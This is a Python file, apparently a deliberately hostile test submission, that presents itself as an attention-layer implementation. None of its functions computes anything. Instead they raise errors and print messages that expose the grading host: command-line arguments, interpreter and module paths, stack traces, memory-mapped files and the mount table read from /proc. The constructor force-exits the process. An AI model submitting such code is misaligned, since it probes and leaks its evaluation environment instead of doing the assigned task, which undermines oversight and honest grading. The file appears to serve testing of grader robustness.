# hostile: put where the grader lives into the report: argv, the interpreter, sys.path, modules' __file__, a traceback, the mapped files and the mount table, raised as error messages and printed before a crash
import os
import sys
import traceback

import torch
import torch.nn as nn


def _lines(path, keep=lambda line: True):
    try:
        with open(path) as handle:
            return [line.strip() for line in handle if keep(line)]
    except OSError as error:
        return [str(error)]


def _where():
    return " | ".join(map(str, [sys.argv, getattr(sys, "orig_argv", None), sys.executable, sys.prefix,
                                sys.base_prefix, sys.path, os.getcwd(), sorted(os.listdir("/"))]))


def _files():
    found = [getattr(module, "__file__", None) for module in (sys.modules.get("__main__"), torch, os, nn)]
    return " | ".join(map(str, found + [repr(p) for p in sys.path]))


def scaled_dot_product_attention(q, k, v, mask=None):
    raise RuntimeError("where am I: " + _where())


def causal_mask(t):
    raise RuntimeError("stack: " + "".join(traceback.format_stack()) + " files: " + _files())


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        if d_model == 16:
            mapped = sorted({line.split()[-1] for line in _lines("/proc/self/maps", lambda l: "/" in l)})
            mounts = [" ".join(line.split()[3:5]) for line in _lines("/proc/self/mountinfo")]
            raise RuntimeError("mounts: " + " ; ".join(mounts) + " maps: " + " ; ".join(mapped))
        print("last words: " + _files(), flush=True)
        os._exit(3)

    def forward(self, q, k, v, mask=None):
        raise RuntimeError("files: " + _files())
